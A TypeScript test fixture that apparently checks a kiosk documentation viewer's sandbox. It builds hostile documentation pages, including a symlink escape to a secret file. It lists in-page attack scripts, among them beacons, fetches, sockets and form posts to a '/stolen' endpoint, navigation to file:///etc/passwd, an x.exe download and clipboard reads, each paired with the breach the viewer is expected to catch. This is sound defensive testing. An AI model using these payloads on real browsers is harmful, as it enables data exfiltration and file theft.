import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Breach } from '@assize/shared/domain/kiosk/breaches.ts';

/** Two documentations whose pages mean harm where they can, a folder that they share, and a secret beside them. */
export const hostileDocumentation = () => {
  const base = mkdtempSync(join(tmpdir(), 'assize-docs-'));
  chmodSync(base, 0o755);
  const at = (...parts: readonly string[]) => join(base, ...parts);
  for (const folder of ['cpp/en', 'java', 'shared', 'secret']) mkdirSync(at(folder), { recursive: true });
  const page = (title: string, body: string) =>
    `<!doctype html><meta charset="utf-8"><title>${title}</title><script src="/${title.split(' ')[0]}/own.js"></script><h1>${title}</h1>${body}`;
  writeFileSync(
    at('cpp/en/index.html'),
    page(
      'cpp',
      '<p id="text">std::vector</p><a id="next" href="next.html">next</a><a id="file" href="next.html" download>file</a>',
    ),
  );
  writeFileSync(at('cpp/en/next.html'), page('cpp next', '<p>std::map</p>'));
  writeFileSync(at('cpp/own.js'), 'window.ownScript = true;');
  writeFileSync(at('java/index.html'), page('java', '<p>java.util.List</p>'));
  writeFileSync(at('shared/own.js'), 'window.ownScript = true;');
  symlinkSync(at('shared/own.js'), at('java/own.js'));
  writeFileSync(at('secret/key.txt'), 'secret');
  symlinkSync('../secret', at('cpp/up'));
  return {
    config: [
      { name: 'cpp', title: 'C++', folder: at('cpp'), start: 'en/index.html' },
      { name: 'java', title: 'Java', folder: at('java'), shares: [at('shared')] },
    ],
    remove: () => rmSync(base, { recursive: true }),
  };
};

type Attack = readonly [what: string, script: string, reason: Breach | null];

/** The script runs in a page of documentation, as if somebody had clicked; null: Chromium refuses, and tells nobody. */
export const attacksOf = (judge: string): readonly Attack[] => [
  ['goes to another site', "location.href = 'https://localhost:1/'", 'documentation.link'],
  ['goes to the judge', `location.href = '${judge}/stolen'`, 'documentation.link'],
  ['goes to the app’s own pages', "location.href = 'app://shell/index.html'", 'documentation.link'],
  ['opens a file of the machine', "location.href = 'file:///etc/passwd'", null],
  ['opens a page it carries itself', "location.href = 'data:text/html,<title>x</title>'", null],
  ['opens pages of Chromium', "location.href = 'chrome://gpu'", null],
  ['opens a window of another site', "window.open('https://localhost:1/')", 'documentation.link'],
  ['opens a window of the judge', `window.open('${judge}/stolen')`, 'documentation.link'],
  ['opens an empty window', 'window.open()', 'documentation.link'],
  [
    'sends a form to the judge',
    `const f = document.createElement('form'); f.action = '${judge}/stolen'; f.method = 'post'; document.body.append(f); f.submit(); f.remove()`,
    null,
  ],
  ['downloads a page', "document.getElementById('file').click()", null],
  [
    'downloads what it made',
    "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.exe'; a.click()",
    null,
  ],
  ['asks the judge', `fetch('${judge}/stolen', { mode: 'no-cors' }).catch(() => {})`, null],
  ['sends to the judge', `navigator.sendBeacon('${judge}/stolen', 'x')`, null],
  [
    'opens a socket to the judge',
    `try { new WebSocket('${judge.replace('https', 'wss')}/stolen') } catch {}`,
    null,
  ],
  ['loads a picture of the judge', `new Image().src = '${judge}/stolen'`, null],
  [
    'puts the judge in a frame',
    `const f = document.createElement('iframe'); f.src = '${judge}/stolen'; document.body.append(f); setTimeout(() => f.remove(), 300)`,
    null,
  ],
  [
    'loads a script of the judge',
    `const s = document.createElement('script'); s.src = '${judge}/stolen'; document.head.append(s)`,
    null,
  ],
  ['prints', 'window.print()', null],
  ['connects to a peer', 'try { new RTCPeerConnection() } catch {}', null],
  ['reads the clipboard', 'navigator.clipboard.readText().catch(() => {})', 'permission.origin'],
  [
    'asks where the machine is',
    'navigator.geolocation.getCurrentPosition(() => {}, () => {})',
    'permission.origin',
  ],
  ['registers a service worker', "navigator.serviceWorker?.register('/cpp/own.js').catch(() => {})", null],
  ['closes its page', 'window.close()', null],
];
